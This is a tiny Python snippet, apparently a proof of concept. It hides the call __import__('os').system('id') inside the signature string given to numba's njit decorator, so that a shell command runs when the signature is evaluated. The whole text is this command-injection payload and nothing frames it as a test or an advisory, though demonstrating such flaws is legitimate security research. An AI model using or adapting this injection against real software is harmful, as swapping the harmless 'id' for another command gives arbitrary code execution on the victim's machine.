from numba import njit
@njit("float64(__import__('os').system('id'))")
def f(x):
    return x
